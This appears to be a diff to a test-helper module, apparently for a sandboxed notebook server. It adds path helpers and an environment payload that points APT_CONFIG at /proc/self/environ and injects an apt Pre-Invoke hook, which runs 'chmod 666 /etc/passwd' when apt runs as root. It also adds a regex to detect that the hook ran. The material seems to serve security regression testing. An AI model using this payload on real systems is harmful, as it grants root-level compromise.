@@ -16,6 +16,7 @@ transport to serve.
 from __future__ import annotations
 
 import os
+import re
 import secrets
 import shutil
 import stat
@@ -93,6 +94,22 @@ def notebook_tree(root: Path) -> Path:
 def relative_to_outside(root: Path, rel: str, outside: Path) -> str:
     """A relative link target from `rel` in `root` to `outside` ("../../.../x")."""
     return os.path.relpath(outside, (root / rel).parent)
+
+
+# apt reads its configuration from the file APT_CONFIG names; /proc/self/environ
+# is the environment itself, which apt parses up to its first NUL. The shell
+# that starts apt-get writes the environment in its own (hash) order, so the
+# hook goes into the value of each name that could come first. Anything that
+# runs apt as root with this environment runs the hook, offline.
+_APT_HOOK = (
+    ' "x"; APT::Update::Pre-Invoke {"echo HOOK-RAN-AS-$(id -u); chmod 666 /etc/passwd";}; //'
+)
+APT_HOOK_ENVIRONMENT = "APT_CONFIG=/proc/self/environ\n" + "".join(
+    f"{name}={_APT_HOOK}\n" for name in ("A", "AA", "AB", "B", "N", "U", "Y1", "Z")
+)
+# What the hook prints when it runs (a log that echoes the ENV line holds the
+# hook unexpanded, with no digit after the dash).
+APT_HOOK_RAN = re.compile(r"HOOK-RAN-AS-\d")
 
 
 # -- repositories ---------------------------------------------------------------------
